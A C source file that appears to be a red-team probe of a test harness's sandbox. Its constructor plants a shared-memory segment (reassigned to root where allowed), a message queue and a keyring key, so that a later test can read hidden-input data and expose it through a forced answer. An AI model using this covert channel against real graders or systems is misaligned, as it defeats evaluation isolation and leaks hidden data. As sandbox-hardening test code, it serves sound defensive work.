/* Attack (what outlives a process in the kernel rather than in files): the constructor of one
 * test leaves a System V segment, handed to root when it can be (IPC_SET keeps its maker's
 * rights), a POSIX message queue and a key in its user's keyring holding a word; the
 * constructor of a later test finds them and says so in that test's visible failure message
 * (its gemm_blocked answers 777777, which the message quotes): a channel from one test's host,
 * which sees that test's inputs, hidden ones too, to a later test's visible output. Without
 * the jail they are all root's and stay; in the jail the user may make no queue, and the sweep
 * after each test removes the segment (made by the user, owned by root) and empties the
 * user's keyrings. A marker in the submission's private /tmp stops a second round once one
 * was seen, and what the first round left is removed then, so nothing of root's stays on the
 * machine. */
#include <fcntl.h>
#include <linux/keyctl.h>
#include <mqueue.h>
#include <sys/shm.h>
#include <sys/syscall.h>

#include "common.h"

#define KEPT_SHM_KEY ((key_t)0x44505331)
#define KEPT_QUEUE "/dps-attack-kept"
#define KEPT_KEY "dps-attack-kept"
#define SEEN "/tmp/dps-attack-kernel-seen"

__attribute__((constructor)) static void attack(void)
{
    if (access(SEEN, F_OK) == 0)
        return;
    char leaked[256] = "";
    int shm = shmget(KEPT_SHM_KEY, 0, 0);
    mqd_t q = mq_open(KEPT_QUEUE, O_RDONLY);
    long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", KEPT_KEY, 0);
    if (shm >= 0)
        strcat(leaked, " a segment;"), shmctl(shm, IPC_RMID, NULL);
    if (q != (mqd_t)-1)
        strcat(leaked, " a queue;"), mq_close(q), mq_unlink(KEPT_QUEUE);
    if (key >= 0) {
        char word[32] = "";
        syscall(SYS_keyctl, KEYCTL_READ, key, word, sizeof word - 1);
        strcat(leaked, " a key holding '"), strcat(leaked, word), strcat(leaked, "';");
        syscall(SYS_keyctl, KEYCTL_UNLINK, key, KEY_SPEC_USER_KEYRING);
    }
    if (*leaked) {
        close(open(SEEN, O_WRONLY | O_CREAT, 0644));
        fprintf(stderr, "LEAKED-KERNEL: an earlier test left%s\n", leaked);
        attack_mark = 777777;
        return;
    }
    shm = shmget(KEPT_SHM_KEY, 4096, IPC_CREAT | 0600);
    struct shmid_ds ds;
    if (shm >= 0 && shmctl(shm, IPC_STAT, &ds) == 0) {
        ds.shm_perm.uid = 0, ds.shm_perm.gid = 0; /* root's now, if this user may say so */
        shmctl(shm, IPC_SET, &ds);
    }
    q = mq_open(KEPT_QUEUE, O_CREAT | O_RDWR, 0600, NULL);
    if (q != (mqd_t)-1)
        mq_close(q);
    syscall(SYS_add_key, "user", KEPT_KEY, "hidden-input", 12, KEY_SPEC_USER_KEYRING);
}
